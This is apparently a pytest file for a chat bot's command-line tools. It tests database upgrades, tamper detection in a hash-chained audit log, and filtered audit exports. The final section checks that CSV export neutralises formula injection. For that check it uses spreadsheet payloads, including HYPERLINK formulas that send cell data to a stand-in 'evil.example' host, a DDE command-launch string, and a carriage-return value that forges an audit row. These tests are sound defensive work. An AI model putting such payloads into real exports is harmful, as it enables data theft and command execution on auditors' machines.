"""bot.cli: `db upgrade`, `audit export`, `audit verify` as an operator runs them."""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa

from bot.cli import add_commands, main
from storage.audit import AuditEntry, AuditLog
from storage.db import Database, safe_url
from tests.app_fixtures import Harness

PROJECT_ROOT = Path(__file__).resolve().parents[2]
T0 = datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


def run(capsys: pytest.CaptureFixture[str], url: str, *argv: str) -> tuple[int, str, str]:
    """The exit code, stdout, and stderr after the line naming the database (a command that looked at one has
    it first; a bad argument is reported before any database is opened)."""
    code = main(["--database-url", url, *argv])
    captured = capsys.readouterr()
    named = f"database: {safe_url(url)}\n"
    err = captured.err[len(named) :] if captured.err.startswith(named) else captured.err
    assert "database: " not in err, captured.err
    return code, captured.out, err


@pytest.fixture
def filled(database: Database) -> AuditLog:
    """Four events, one minute apart from T0: alice on server 1 and 2, bob on server 1 and none."""
    times = iter([T0 + timedelta(minutes=i) for i in range(100)])
    log = AuditLog(database, clock=lambda: next(times))
    log.append(AuditEntry(action="create.requested", outcome="intent", actor_id="U0ALICE", server_id=1))
    log.append(AuditEntry(action="create.succeeded", outcome="ok", actor_id="U0ALICE", server_id=2))
    log.append(AuditEntry(action="delete.requested", outcome="intent", actor_id="U0BOB", server_id=1))
    log.append(AuditEntry(action="list", outcome="ok", actor_id="U0BOB", details={"servers": 3}))
    log.seal()  # chained now, not whenever the sealer thread gets to them (verify counts the chained rows)
    return log


def test_add_commands_plugs_into_another_parser() -> None:
    parser = argparse.ArgumentParser()
    add_commands(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["audit", "export", "--format", "csv", "--actor", "U0ALICE", "--server", "7"])
    assert callable(args.func)
    assert (args.format, args.actor, args.server) == ("csv", "U0ALICE", "7")
    assert callable(parser.parse_args(["audit", "verify"]).func)
    assert callable(parser.parse_args(["db", "upgrade"]).func)


def test_db_upgrade_creates_the_schema_then_reports_it_current(
    capsys: pytest.CaptureFixture[str], database_url: str
) -> None:
    db = Database(database_url)
    newest = db.head_revision()
    code, out, _ = run(capsys, database_url, "db", "upgrade")
    assert code == 0 and out.strip() == f"database upgraded to revision {newest}"
    code, out, _ = run(capsys, database_url, "db", "upgrade")
    assert code == 0 and out.strip() == f"database already up to date (revision {newest})"
    try:
        assert db.needs_upgrade() is False
    finally:
        db.dispose()


def test_db_status_reads_the_revision_and_creates_nothing(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'status.db'}"
    database = Database(url)
    try:
        newest = database.head_revision()
        assert database.ping()  # an empty file
        assert run(capsys, url, "db", "status") == (
            1,
            f"no snapshot-bot schema (an empty database, or not the bot's); `db upgrade` creates {newest}\n",
            "",
        )
        database.upgrade()
        assert run(capsys, url, "db", "status") == (0, f"schema revision {newest}: up to date\n", "")
    finally:
        database.dispose()


def test_verify_reports_an_intact_chain_and_names_the_database(
    capsys: pytest.CaptureFixture[str], filled: AuditLog
) -> None:
    assert main(["--database-url", filled.db.url, "audit", "verify"]) == 0
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == ("audit chain intact: 4 events\n", f"database: {safe_url(filled.db.url)}\n")


def test_verify_reports_a_broken_chain(capsys: pytest.CaptureFixture[str], filled: AuditLog) -> None:
    with filled.db.begin() as conn:
        conn.execute(sa.text("UPDATE audit_events SET actor_id = 'U0MALLORY' WHERE id = 2"))
    code, out, _ = run(capsys, filled.db.url, "audit", "verify")
    assert code == 1
    assert out == "audit chain BROKEN at row 2: hash mismatch (edited?)\n"


def test_verify_on_a_database_never_migrated(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'new.db'}"
    empty = Database(url)
    try:
        assert empty.ping()  # an empty SQLite file
    finally:
        empty.dispose()
    code, out, err = run(capsys, url, "audit", "verify")
    assert code == 1 and out == ""
    assert err == (
        f"error: the database {url} has no snapshot-bot schema (an empty database, or not the bot's); "
        "run `db upgrade` first\n"
    )


def test_verify_on_an_older_schema_names_both_revisions(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'old.db'}"
    database = Database(url)
    try:
        database.upgrade()
        newest = database.head_revision()
        with database.begin() as conn:
            conn.execute(sa.text("UPDATE alembic_version SET version_num = '0001_initial'"))
    finally:
        database.dispose()
    code, _, err = run(capsys, url, "audit", "verify")
    assert code == 1
    assert err == (
        f"error: the database {url} is at schema revision 0001_initial, older than this bot's {newest}; "
        "run `db upgrade` first\n"
    )


@pytest.mark.parametrize(
    "argv", [["audit", "verify"], ["audit", "export"], ["audit", "export", "--action", "list"], ["db", "status"]]
)
def test_read_only_commands_never_create_a_database(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, argv: list[str]
) -> None:
    missing = tmp_path / "nothing-here.db"
    url = f"sqlite:///{missing}"
    code, out, err = run(capsys, url, *argv)
    assert code == 1 and out == ""
    assert err == (
        f"error: no database at {url}: {missing} does not exist (set DATABASE_URL, or --database-url, "
        "to the bot's database)\n"
    )
    assert not missing.exists()


def test_python_m_bot_audit_verify_without_database_url_names_the_database_and_creates_none(tmp_path: Path) -> None:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path), "PYTHONPATH": str(PROJECT_ROOT)}
    done = subprocess.run(
        [sys.executable, "-m", "bot", "audit", "verify"],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1 and done.stdout == ""
    assert done.stderr.splitlines() == [
        "database: sqlite:///snapshot-bot.db",
        f"error: no database at sqlite:///snapshot-bot.db: {tmp_path.resolve() / 'snapshot-bot.db'} does not exist "
        "(set DATABASE_URL, or --database-url, to the bot's database)",
    ]
    assert list(tmp_path.iterdir()) == []  # no ./snapshot-bot.db (nor its -wal and -shm)


def test_export_jsonl_to_stdout_with_filters(capsys: pytest.CaptureFixture[str], filled: AuditLog) -> None:
    code, out, err = run(capsys, filled.db.url, "audit", "export", "--format", "jsonl")
    assert code == 0 and err == "exported 4 events\n"
    events = [json.loads(line) for line in out.splitlines()]
    assert [e["action"] for e in events] == ["create.requested", "create.succeeded", "delete.requested", "list"]
    assert events[3]["details"] == {"servers": 3}
    assert events[0]["created_at"] == "2024-05-01T12:00:00.000000Z"

    code, out, _ = run(capsys, filled.db.url, "audit", "export", "--actor", "U0BOB", "--server", "1")
    assert code == 0
    assert [json.loads(line)["action"] for line in out.splitlines()] == ["delete.requested"]

    # A date without a zone is UTC; --since is inclusive, --until exclusive.
    code, out, _ = run(
        capsys, filled.db.url, "audit", "export", "--since", "2024-05-01T12:01:00", "--until", "2024-05-01T14:03+02:00"
    )
    assert code == 0
    assert [json.loads(line)["action"] for line in out.splitlines()] == ["create.succeeded", "delete.requested"]


def test_export_action_matches_as_snapshot_audit_action_does(
    capsys: pytest.CaptureFixture[str], filled: AuditLog
) -> None:
    """`--action create` is every create.* action (and `create` itself); `cre` is no prefix at a dot."""

    def actions(*argv: str) -> tuple[list[str], str]:
        code, out, err = run(capsys, filled.db.url, "audit", "export", *argv)
        assert code == 0
        return [json.loads(line)["action"] for line in out.splitlines()], err

    assert actions("--action", "create") == (["create.requested", "create.succeeded"], "exported 2 events\n")
    assert actions("--action", "create.succeeded") == (["create.succeeded"], "exported 1 event\n")
    assert actions("--action", "cre") == ([], "exported 0 events\n")
    assert actions("--action", "delete", "--actor", "U0ALICE") == ([], "exported 0 events\n")
    assert actions("--action", "list", "--actor", "U0BOB")[0] == ["list"]
    code, out, err = run(capsys, filled.db.url, "audit", "export", "--action", " ")
    assert (code, out) == (2, "") and err.startswith("error: --action: ' ' is not an action name")


def test_export_csv_to_stdout(capsys: pytest.CaptureFixture[str], filled: AuditLog) -> None:
    code, out, err = run(capsys, filled.db.url, "audit", "export", "--format", "csv", "--since", "2024-05-01")
    assert code == 0 and err == "exported 4 events\n"
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["actor_id"] for r in rows] == ["U0ALICE", "U0ALICE", "U0BOB", "U0BOB"]
    assert rows[1]["server_id"] == "2" and rows[3]["server_id"] == ""

    code, out, err = run(capsys, filled.db.url, "audit", "export", "--format", "csv", "--since", "2024-05-02")
    assert code == 0 and err == "exported 0 events\n"
    assert len(out.splitlines()) == 1  # the header only


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--since", "yesterday"], "error: --since: 'yesterday' is not an ISO date or date-time"),
        (["--until", "2024-13-01"], "error: --until: '2024-13-01' is not an ISO date or date-time"),
        (["--server", "web-1"], "error: --server: 'web-1' is not a server id (a whole number in digits 0-9)"),
    ],
)
def test_export_bad_arguments_exit_2_with_one_line(
    capsys: pytest.CaptureFixture[str], sqlite_database: Database, argv: list[str], message: str
) -> None:
    code, out, err = run(capsys, sqlite_database.url, "audit", "export", *argv)
    assert code == 2 and out == ""
    assert len(err.splitlines()) == 1
    assert err.startswith(message)


def test_database_errors_are_one_line_without_the_password(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "postgresql://ops:hunter2@127.0.0.1:1/bot?connect_timeout=2", "audit", "verify")
    assert code == 1 and out == ""
    assert len(err.splitlines()) == 1 and err.startswith("error: database postgresql+psycopg://ops:***@")
    assert "hunter2" not in err  # nor in the line naming the database (`run` checks it is the masked URL)


def test_python_dash_m_verify_exit_codes(sqlite_database: Database) -> None:
    """As an operator (or a cron job) runs it: DATABASE_URL from the environment, the exit code is the result."""
    AuditLog(sqlite_database).append_many(
        AuditEntry(action="list", outcome="ok", actor_id="U0ALICE", details={"i": i}) for i in range(3)
    )
    env = {**os.environ, "DATABASE_URL": sqlite_database.url, "PYTHONPATH": str(PROJECT_ROOT)}

    def verify() -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "bot.cli", "audit", "verify"],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
            cwd=PROJECT_ROOT,
        )

    intact = verify()
    assert (intact.returncode, intact.stdout) == (0, "audit chain intact: 3 events\n")

    with sqlite_database.begin() as conn:
        conn.execute(sa.text("DELETE FROM audit_events WHERE id = 2"))
    broken = verify()
    assert broken.returncode == 1
    assert broken.stdout == "audit chain BROKEN at row 3: prev_hash does not match row 1 (deleted or reordered?)\n"


# ---- CSV formula injection (OWASP) ------------------------------------------------------------------------
HOSTILE = {
    '=HYPERLINK("https://evil.example/?"&A1,"open")': '\'=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "'=already quoted": "''=already quoted",  # so dropping one leading ' always gives the stored value back
    "plain-name": "plain-name",
}


def test_csv_export_neutralises_formulas_and_jsonl_stays_exact(
    capsys: pytest.CaptureFixture[str], audit_log: AuditLog
) -> None:
    for name in HOSTILE:
        audit_log.append(
            AuditEntry(action="list", outcome="ok", actor_id="U0EVIL", actor_name=name, channel_id="@C0OPS")
        )

    code, out, _ = run(capsys, audit_log.db.url, "audit", "export", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["actor_name"] for r in rows] == list(HOSTILE.values())
    assert {r["channel_id"] for r in rows} == {"'@C0OPS"}  # every text column, not just names
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["id"].isdigit() and row["details"] == "{}"

    code, out, _ = run(capsys, audit_log.db.url, "audit", "export", "--format", "jsonl")
    assert code == 0
    assert [json.loads(line)["actor_name"] for line in out.splitlines()] == list(HOSTILE)


def test_a_slack_display_name_formula_is_inert_in_the_csv(capsys: pytest.CaptureFixture[str], harness: Harness) -> None:
    """End to end: a user whose Slack name is a formula runs a command; the auditor's CSV shows it as text."""
    evil = '=HYPERLINK("https://evil.example/steal?d="&B2,"Click for details")'
    response = harness.driver.command("list", user_id="U0EVIL", user_name=evil, channel_id="C0OPS")
    assert response.status == 200
    harness.settle()

    code, out, _ = run(capsys, harness.bot.settings.database_url, "audit", "export", "--format", "csv")
    assert code == 0
    names = [row["actor_name"] for row in csv.DictReader(io.StringIO(out)) if row["actor_id"] == "U0EVIL"]
    assert names and all(name == "'" + evil for name in names)


def test_a_carriage_return_inside_a_cell_stays_in_its_cell(
    capsys: pytest.CaptureFixture[str], audit_log: AuditLog
) -> None:
    forged = "alice\rrestore.approved by U0BOSS"  # no comma or quote, so nothing else would make it quoted
    audit_log.append(AuditEntry(action="list", outcome="ok", actor_id="U0EVIL", actor_name=forged))
    code, out, _ = run(capsys, audit_log.db.url, "audit", "export", "--format", "csv")
    assert code == 0
    # As a spreadsheet reads it: a bare CR is a line break too.
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert len(rows) == 2 and rows[1][5] == forged
